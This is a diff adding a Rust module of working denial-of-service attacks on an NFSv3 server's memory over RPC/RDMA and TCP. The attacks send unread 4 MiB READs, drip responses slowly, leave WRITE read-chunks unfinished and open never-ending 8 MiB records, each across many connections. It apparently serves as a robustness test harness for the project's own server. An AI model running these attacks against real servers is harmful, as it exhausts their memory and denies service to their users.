@@ -1,0 +1,123 @@
+//! Attacks on the server's memory: replies that nobody reads, and calls that never end.
+
+use std::convert::Infallible;
+use std::time::Duration;
+
+use bytes::{Bytes, BytesMut};
+use rpcrdma_nfs3::nfs_v3::proc::{Read, Write};
+use rpcrdma_nfs3::{Read3Args, StableHow, Write3Args};
+use rpcrdma_runtime::proto::work::Memory;
+use rpcrdma_runtime::wire::rdma::WriteChunk;
+use tokio::io::AsyncWriteExt;
+use tokio::net::TcpStream;
+use tokio::time::sleep;
+
+use super::Target;
+use crate::peer::{RdmaPeer, connect, drip, host, record};
+
+/// The largest transfer that the server offers, in bytes.
+const TRANSFER: u32 = 4 << 20;
+/// Connections of one attack.
+const PEERS: usize = 10;
+/// Calls of one connection.
+const CALLS: u32 = 64;
+/// How long an attempt holds what it has, longer than the time in which the server averages a peer's rate.
+const HOLD: Duration = Duration::from_secs(15);
+/// 4 KiB in this time are 40 KiB/s, less than the server demands.
+const SLOW: Duration = Duration::from_millis(100);
+
+/// Connects over RDMA and sends READs of 4 MiB each.
+async fn reads_over_rdma(target: &Target, number: usize) -> anyhow::Result<RdmaPeer> {
+    let mut peer = RdmaPeer::connect(host(number), target.rdma).await?;
+    let sink = peer.register(Memory::Sink(BytesMut::with_capacity(TRANSFER as usize)))?;
+    let args = Read3Args { file: target.large, offset: 0, count: TRANSFER };
+    for xid in 1..=CALLS {
+        peer.call::<Read>(xid, &args, None, vec![WriteChunk(vec![sink])]).await?;
+    }
+    Ok(peer)
+}
+
+/// Connects over TCP and sends the same READs.
+async fn reads_over_tcp(target: &Target, number: usize) -> anyhow::Result<TcpStream> {
+    let mut socket = connect(host(number), target.tcp).await?;
+    let args = Read3Args { file: target.large, offset: 0, count: TRANSFER };
+    for xid in 1..=CALLS {
+        socket.write_all(&record::<Read>(xid, &args)?).await?;
+    }
+    Ok(socket)
+}
+
+pub(super) async fn unread_over_rdma(target: Target, hosts: usize) -> Infallible {
+    let attempt = move |target: Target, number: usize| async move {
+        let _peer = reads_over_rdma(&target, number % hosts).await?;
+        sleep(HOLD).await;
+        Ok(())
+    };
+    target.repeat(PEERS, attempt).await
+}
+
+pub(super) async fn unread_over_tcp(target: Target) -> Infallible {
+    let attempt = |target: Target, number| async move {
+        let _socket = reads_over_tcp(&target, number).await?;
+        sleep(HOLD).await;
+        Ok(())
+    };
+    target.repeat(PEERS, attempt).await
+}
+
+pub(super) async fn slow_over_rdma(target: Target) -> Infallible {
+    let attempt = |target: Target, number| async move {
+        let mut peer = reads_over_rdma(&target, number).await?;
+        Ok(drip(&mut peer.socket, SLOW).await?)
+    };
+    target.repeat(PEERS, attempt).await
+}
+
+pub(super) async fn slow_over_tcp(target: Target) -> Infallible {
+    let attempt = |target: Target, number| async move {
+        let mut socket = reads_over_tcp(&target, number).await?;
+        Ok(drip(&mut socket, SLOW).await?)
+    };
+    target.repeat(PEERS, attempt).await
+}
+
+/// WRITEs whose Read chunks the server can fetch only up to their last bytes.
+pub(super) async fn unfinished_chunks(target: Target) -> Infallible {
+    let data = Bytes::from(vec![7; TRANSFER as usize]);
+    let attempt = move |target: Target, number| {
+        let data = data.clone();
+        async move {
+            let mut peer = RdmaPeer::connect(host(number), target.rdma).await?;
+            let source = peer.register(Memory::Source(data.clone()))?;
+            let (file, stable) = (target.shared, StableHow::Unstable);
+            let args = Write3Args { file, offset: 0, count: TRANSFER, stable, data: data.into() };
+            // As much as the server fetches for one connection.
+            let calls = 16;
+            for xid in 1..=calls {
+                peer.call::<Write>(xid, &args, Some(source), Vec::new()).await?;
+            }
+            let all = TRANSFER as usize * calls as usize;
+            peer.serve(all - (1 << 20)).await?;
+            sleep(HOLD).await;
+            Ok(())
+        }
+    };
+    target.repeat(PEERS, attempt).await
+}
+
+/// Records of almost 8 MiB that never end.
+pub(super) async fn unfinished_records(target: Target) -> Infallible {
+    let fragment = Bytes::from(vec![0; 8 << 20]);
+    let attempt = move |target: Target, number| {
+        let fragment = fragment.clone();
+        async move {
+            let mut socket = connect(host(number % PEERS), target.tcp).await?;
+            let mark = u32::try_from(fragment.len() + 1)?;
+            socket.write_all(&mark.to_be_bytes()).await?;
+            socket.write_all(&fragment).await?;
+            sleep(HOLD).await;
+            Ok(())
+        }
+    };
+    target.repeat(PEERS * 10, attempt).await
+}
